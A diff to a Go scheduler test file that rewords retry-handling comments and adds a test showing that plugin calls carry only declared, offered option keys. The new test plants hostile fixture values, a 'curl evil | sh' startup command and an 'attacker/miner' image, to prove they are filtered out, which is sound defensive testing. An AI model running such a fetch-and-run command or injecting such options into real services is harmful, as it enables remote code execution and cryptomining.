@@ -16,18 +16,19 @@ import (
 )
 
 // TestRunChunk: runs due together share one job; one execution of it
-// records each run's own outcome (success, an unknown outcome to retry
-// with the same key, a definite failure to retry with a new key, a skip);
-// the retried job executes only the runs still unfinished, including one
-// left running by a replica that died; a repeat after everything finished
-// calls nothing and notifies nothing again.
+// records each run's own outcome (success, a call refused before anything
+// happened to retry with the same key, a definite failure to retry with a
+// new key, a skip); the retried job executes only the runs still
+// unfinished, including those left running by a replica that died before
+// starting their actions; a repeat after everything finished calls nothing
+// and notifies nothing again.
 func TestRunChunk(t *testing.T) {
 	t.Parallel()
 	databasetest.Each(t, func(t *testing.T, db *database.DB) {
 		b := setup(t, db)
 		ctx := context.Background()
 		ok := mustTask(t, b, scheduler.TaskInput{Type: "custom_script", Script: "ok", Cron: "0 * * * *", Notify: "always"})
-		unknown := mustTask(t, b, scheduler.TaskInput{Type: "custom_script", Script: "unknown", Cron: "0 * * * *"})
+		unknown := mustTask(t, b, scheduler.TaskInput{Type: "custom_script", Script: "later", Cron: "0 * * * *"})
 		failing := mustTask(t, b, scheduler.TaskInput{Type: "custom_script", Script: "fail", Cron: "0 * * * *", MaxRetries: ptr(1)})
 		disabled := mustTask(t, b, scheduler.TaskInput{Type: "reboot", Cron: "0 * * * *"})
 		b.clock.Add(time.Hour)
@@ -52,7 +53,7 @@ func TestRunChunk(t *testing.T) {
 			defer mu.Unlock()
 			if c.Key == run[unknown.ID] && !answered[c.Key] {
 				answered[c.Key] = true
-				return sdk.UnavailableError(0, "backend busy")
+				return sdk.UnavailableError(time.Second, "rate limited: come back later")
 			}
 			return nil
 		}
@@ -92,8 +93,9 @@ func TestRunChunk(t *testing.T) {
 			t.Errorf("notices after the first execution (-want +got)\n%s", diff)
 		}
 
-		// A replica took the retry, marked the runs running and died: the
-		// rescued job calls again with the same keys.
+		// A replica took the retry, marked the runs running and died before
+		// starting their actions: the rescued job starts them (the refused
+		// one with its key again, the failed one with its next key).
 		if _, err := db.NewRaw("UPDATE task_runs SET status = ? WHERE id IN (?, ?)", scheduler.RunRunning, run[unknown.ID], run[failing.ID]).Exec(ctx); err != nil {
 			t.Fatal(err)
 		}
@@ -105,7 +107,7 @@ func TestRunChunk(t *testing.T) {
 			t.Errorf("keys after the second execution (-want +got)\n%s", diff)
 		}
 		if st, _ := status(unknown.ID); st != scheduler.RunSucceeded {
-			t.Errorf("the unknown outcome's run is %s after its retry, want succeeded", st)
+			t.Errorf("the refused run is %s after its retry, want succeeded", st)
 		}
 		if st, at := status(failing.ID); st != scheduler.RunFailed || at != 2 {
 			t.Errorf("the failing run is %s attempt %d, want failed after attempt 2", st, at)
@@ -121,10 +123,10 @@ func TestRunChunk(t *testing.T) {
 	})
 }
 
-// TestRunChunkLastTry: on the job's last River attempt an unknown outcome
-// fails the run instead of leaving it to a retry that will not come; and a
-// run's own limit (its attempts plus River's margin for unknown outcomes)
-// applies inside a chunk whose job allows more.
+// TestRunChunkLastTry: on the job's last River attempt a call refused
+// before anything happened fails the run instead of leaving it to a retry
+// that will not come; and a run's own limit (its attempts plus River's
+// margin for such calls) applies inside a chunk whose job allows more.
 func TestRunChunkLastTry(t *testing.T) {
 	t.Parallel()
 	databasetest.Each(t, func(t *testing.T, db *database.DB) {
@@ -136,7 +138,7 @@ func TestRunChunkLastTry(t *testing.T) {
 		if _, err := b.s.DueTasks(ctx); err != nil {
 			t.Fatal(err)
 		}
-		b.prov.errFunc = func(call) error { return sdk.UnavailableError(0, "backend busy") }
+		b.prov.errFunc = func(call) error { return sdk.UnavailableError(time.Second, "backend busy, retry later") }
 		chunk := b.jobRuns(t)[0]
 		// Attempt 6 of 16: past the short task's 1 + 5, within the long one's.
 		if err := b.s.ExecuteRunsForTest(ctx, chunk, 6, 16); err == nil {
@@ -219,6 +221,43 @@ func TestDueTasksAhead(t *testing.T) {
 		}
 		if err := b.s.ExecuteRunsForTest(ctx, []string{hourlyRun}, 1, 6); err != nil || len(b.prov.Calls()) != 0 {
 			t.Errorf("the dropped run's job: %v, %d calls; want nothing done", err, len(b.prov.Calls()))
+		}
+	})
+}
+
+// TestRunTellsThePluginOnlyDeclaredOptions: a scheduled run's call carries
+// the plan's declared options and the customer's offered choices, never a
+// key the plugin does not declare or the plan does not offer.
+func TestRunTellsThePluginOnlyDeclaredOptions(t *testing.T) {
+	t.Parallel()
+	databasetest.Each(t, func(t *testing.T, db *database.DB) {
+		b := setup(t, db)
+		ctx := context.Background()
+		for _, q := range []struct {
+			sql  string
+			args []any
+		}{
+			{"UPDATE services SET options = ? WHERE id = ?", []any{`{"hostname":"web1","docker_image":"attacker/miner","package":"9"}`, b.full}},
+			{"UPDATE plans SET plugin_options = ?, order_options = ? WHERE id = ?", []any{`{"package":"1","startup":"curl evil | sh"}`, `{"hostname":[]}`, b.planFull}},
+		} {
+			if _, err := db.NewRaw(q.sql, q.args...).Exec(ctx); err != nil {
+				t.Fatal(err)
+			}
+		}
+		mustTask(t, b, scheduler.TaskInput{Type: "reboot", Cron: "0 * * * *"})
+		b.clock.Add(time.Hour)
+		if _, err := b.s.DueTasks(ctx); err != nil {
+			t.Fatal(err)
+		}
+		chunks := b.jobRuns(t)
+		if len(chunks) != 1 {
+			t.Fatalf("run jobs %v, want one", chunks)
+		}
+		if err := b.s.ExecuteRunsForTest(ctx, chunks[0], 1, 7); err != nil {
+			t.Fatal(err)
+		}
+		if diff := cmp.Diff(map[string]string{"package": "1", "hostname": "web1"}, b.prov.Options(b.full)); diff != "" {
+			t.Errorf("options the plugin was told (-want +got):\n%s", diff)
 		}
 	})
 }
